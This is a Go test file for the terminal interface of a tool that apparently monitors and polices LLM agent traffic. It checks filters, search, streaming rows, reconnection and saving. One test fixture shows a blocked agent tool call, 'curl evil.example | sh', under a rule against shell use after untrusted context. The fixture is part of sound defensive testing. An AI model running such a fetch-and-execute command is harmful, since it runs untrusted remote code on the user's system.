package tui

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/charmbracelet/x/ansi"

	"github.com/archestra-ai/archestra-cli/pkg/control"
	"github.com/archestra-ai/archestra-cli/pkg/llm"
	"github.com/archestra-ai/archestra-cli/tui/paint"
)

// text is the frame without its styles; the frame is as large as the terminal.
func (s *screen) text() string {
	s.t.Helper()
	out := s.view()
	exact(s.t, out, s.m.width, s.m.height)
	return ansi.Strip(out)
}

func (s *screen) shows(words ...string) {
	s.t.Helper()
	text := s.text()
	for _, w := range words {
		if !strings.Contains(text, w) {
			s.t.Errorf("the screen does not show %q:\n%s", w, text)
		}
	}
}

func (s *screen) hides(words ...string) {
	s.t.Helper()
	text := s.text()
	for _, w := range words {
		if strings.Contains(text, w) {
			s.t.Errorf("the screen shows %q:\n%s", w, text)
		}
	}
}

// lineOf returns the line of the screen that the selected row begins on.
func (s *screen) lineOf(mark string) int {
	s.t.Helper()
	for k, l := range strings.Split(s.text(), "\n") {
		if strings.Contains(l, mark) {
			return k
		}
	}
	s.t.Fatalf("no %q on the screen:\n%s", mark, s.text())
	return -1
}

// TestSession starts traffic, filters, opens, searches, copies, resizes, loses
// the server and regains it.
func TestSession(t *testing.T) {
	t.Setenv("SSH_TTY", "yes") // no clipboard of this machine
	f := newFake()
	s := newScreen(t, f, 120, 30, paint.Look{})
	s.shows("waiting", "archestra serve")
	s.attach()
	s.shows("attached", "No traffic yet", "http://localhost:9000/v1/anthropic/default")

	f.all = traffic()
	for _, i := range f.all {
		f.conv[i.ID] = talkOf()
	}
	s.attach(f.all...)
	s.shows("8 req", "14:01:37", "FOLLOW")

	s.press("/")
	s.typed("provider:op")
	s.shows("/ provider:op")
	s.press("esc", "/")
	s.typed("verdict:bl")
	s.press("tab", "enter")
	s.shows("/verdict:block (1)", "BLOCK Bash")
	s.hides("overloaded_error")

	s.press("enter")
	s.shows("[1 Talk]", "curl evil.example | sh") // it opens at the end
	s.press("g")
	s.shows("fix the flaky test", "image, image/png, 48kB")
	s.press("/")
	s.typed("SAY IT")
	s.press("enter", "n")
	s.shows("no more of that")
	s.press("5")
	s.shows("BLOCK", "rule        R7", "shell after untrusted context")

	var out strings.Builder
	s.m.opts.Out = &out
	s.press("y", "t")
	if want := "\x1b]52;c;"; !strings.HasPrefix(out.String(), want) {
		t.Errorf("copying wrote %q", out.String())
	}
	s.shows("sent to the terminal's clipboard")

	for _, size := range [][2]int{{200, 60}, {90, 20}, {45, 12}, {20, 5}, {1, 1}, {120, 30}} {
		s.send(tea.WindowSizeMsg{Width: size[0], Height: size[1]})
		s.text()
	}
	s.press("esc", "esc")
	s.shows("! failed", "529")
	for _, size := range [][2]int{{200, 60}, {90, 20}, {45, 12}, {20, 5}, {1, 1}, {120, 30}} {
		s.send(tea.WindowSizeMsg{Width: size[0], Height: size[1]})
		s.text()
	}

	s.send(batchMsg{lastErr: control.ErrNoServer})
	s.shows("lost", "The server has gone", "14:01:37")
	s.attach(sample(55))
	s.shows("attached again", "14:02:25")
	s.hides("The server has gone")
	if s.m.press(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("q")})() != tea.Quit() {
		t.Error("q does not quit")
	}
}

// TestStaysUnderCursor asserts that whatever comes and goes, the selected row
// keeps its identity and its line.
func TestStaysUnderCursor(t *testing.T) {
	s := newScreen(t, newFake(), 120, 30, paint.Look{})
	for n := range 60 {
		i := sample(n)
		if n%3 == 0 {
			i.State, i.FinishedAt = llm.StateStreaming, nil
		}
		s.send(batchMsg{attached: true, changes: []change{{i: i, whole: true, fresh: true, text: "so far"}}})
	}
	s.press("k", "k", "k", "k", "k", "k", "k")
	sel, at := s.m.list.sel.i.ID, s.lineOf("▌")
	for n := 60; n < 80; n++ {
		s.attach(sample(n))
	}
	for n := 0; n < 60; n += 3 { // those that ran end: their second lines go away
		s.attach(sample(n))
	}
	if got := s.lineOf("▌"); got != at || s.m.list.sel.i.ID != sel {
		t.Errorf("the selected row moved from line %d to %d", at, got)
	}
	s.shows("▼ 20 new", "PAUSED")
	s.press("G")
	s.shows("FOLLOW")
	s.hides("new")
	if s.m.list.sel.i.ID != id(79) {
		t.Error("G does not select the newest")
	}
	s.press("F")
	s.shows("FOLLOW OFF")
	s.attach(sample(80))
	if s.m.list.sel.i.ID != id(79) {
		t.Error("off follows")
	}
	s.press("F")
	if s.m.list.sel.i.ID != id(80) {
		t.Error("on does not follow")
	}
}

// TestStreamingRow tells one request's life from the first byte to the last.
func TestStreamingRow(t *testing.T) {
	s := newScreen(t, newFake(), 120, 30, paint.Look{})
	i := sample(1)
	i.State, i.Status, i.FirstTokenAt, i.TTFTMS, i.Usage, i.CostUSD, i.FinishReasons, i.Text = llm.StateStreaming, 0, nil, nil, nil, nil, nil, ""
	step := func(c change) {
		d := *i
		c.i = &d
		s.send(batchMsg{attached: true, changes: []change{c}})
	}
	step(change{whole: true, fresh: true})
	s.shows("◌ sent")
	i.Status, i.FirstTokenAt, i.TTFTMS = 200, ptr(noon), llm.MillisOf(900e6)
	step(change{reasoning: "Let me see"})
	s.shows("▸ streaming", "900ms", "thinking: Let me see", "≈3")
	step(change{text: "Running the tests now."})
	s.shows("Running the tests now.")
	s.press("enter")
	step(change{text: " And more."})
	s.shows("Running the tests now. And more.", "▌ streaming")
	s.press("esc")
	step(change{call: &llm.ToolCall{Name: "Bash", Arguments: []byte(`{"command":"go test"}`)}})
	s.shows(`└ Bash {"command":"go test"}`)
	i.State = llm.StateHeld
	i.ToolCalls = []llm.ToolCall{{Name: "Bash", Verdict: llm.ActionAsk}}
	s.press("/")
	s.typed("provider:openai")
	s.press("enter")
	step(change{})
	s.shows("? HELD", "answer with: archestra ask") // whatever the filter
	s.press("esc")
	s.attach(sample(1))
	s.shows("✓ done", "$0.21")
	s.hides("HELD")
}

// TestCatchUp asserts that what ended while nobody told is asked for, after the
// server was away and after events were lost.
func TestCatchUp(t *testing.T) {
	f := newFake()
	s := newScreen(t, f, 120, 30, paint.Look{})
	runs := func(n int) *llm.Interaction {
		i := sample(n)
		i.State = llm.StateStreaming
		return i
	}
	s.attach(sample(1), runs(2), sample(3))
	s.shows("1 running")
	f.all = []*llm.Interaction{sample(2), sample(3), sample(4)}
	f.all[0].State = llm.StateInterrupted
	s.send(batchMsg{lastErr: control.ErrNoServer})
	s.attach()
	s.shows("† interrupted", "4 req")
	s.hides("running")
	s.attach(runs(5))
	f.all = append(f.all, sample(5), sample(6))
	s.send(batchMsg{attached: true, lost: 3})
	s.shows("6 req", "3 events were lost")
	s.hides("running")
}

// TestUnknownCost asserts that a price that is not known is never zero.
func TestUnknownCost(t *testing.T) {
	s := newScreen(t, newFake(), 160, 30, paint.Look{})
	i := sample(1)
	i.CostUSD = nil
	s.attach(i)
	s.shows("1 req  ~")
	s.hides("$0")
	free := sample(2)
	free.CostUSD = ptr(llm.Decimal(0))
	s.attach(free)
	s.shows("$0+~")
}

// TestTextSearch asserts that free text is asked of the server, and that its
// answers appear in parts.
func TestTextSearch(t *testing.T) {
	f := newFake()
	f.all = traffic()
	f.all[0].Text = "a needle in the hay"
	s := newScreen(t, f, 120, 30, paint.Look{})
	s.attach(f.all[1:]...) // the first is only in the record
	s.press("/")
	s.typed("needle")
	s.press("enter")
	s.shows("/needle (1)", "14:01:30")
	s.hides("14:01:31", "searching…")
	i := sample(9)
	i.Text = "another needle"
	s.attach(i, sample(10))
	s.shows("/needle (2)")
	f.all = nil
	s.press("esc")
	s.shows("14:01:31")
}

func TestSidebarWritesFilter(t *testing.T) {
	s := busy(t, 160, 45, paint.Look{})
	s.press("tab", "space")
	s.shows("/provider:anthropic")
	s.press("j", "space")
	s.shows("/provider:anthropic|gemini")
	s.press("enter")
	s.shows("/provider:gemini (1)")
	s.press("0")
	if s.m.filter != "" {
		t.Errorf("the filter is %q", s.m.filter)
	}
	s.press("[")
	s.hides("Seen here")
	s.press("]")
	s.shows("Seen here", "idle", "no key")
}

func TestSave(t *testing.T) {
	t.Chdir(t.TempDir())
	s := busy(t, 120, 30, paint.Look{})
	s.press("g", "s", "s")
	s.shows("saved as")
	names, err := filepath.Glob("archestra-*.json")
	if err != nil || len(names) != 2 {
		t.Fatalf("saved %q, %v", names, err)
	}
	info, err := os.Stat(names[0])
	if err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("%v, %v", info.Mode(), err)
	}
}

func TestFaults(t *testing.T) {
	s := busy(t, 120, 30, paint.Look{})
	s.send(openedMsg{id: "another"}) // came too late
	s.press("g", "enter")
	s.send(openedMsg{id: id(0), err: control.ErrNotFound, convErr: control.ErrNotFound})
	s.shows("no such interaction")
	s.send(bodyMsg{id: id(0), side: control.SideResponse, err: errors.New("a disk on fire")})
	s.press("3")
	s.shows("a disk on fire")
	s.send(batchMsg{refused: errors.New("bad request")})
	s.shows("the server refused: bad request")
	s.press("q", "q")
}
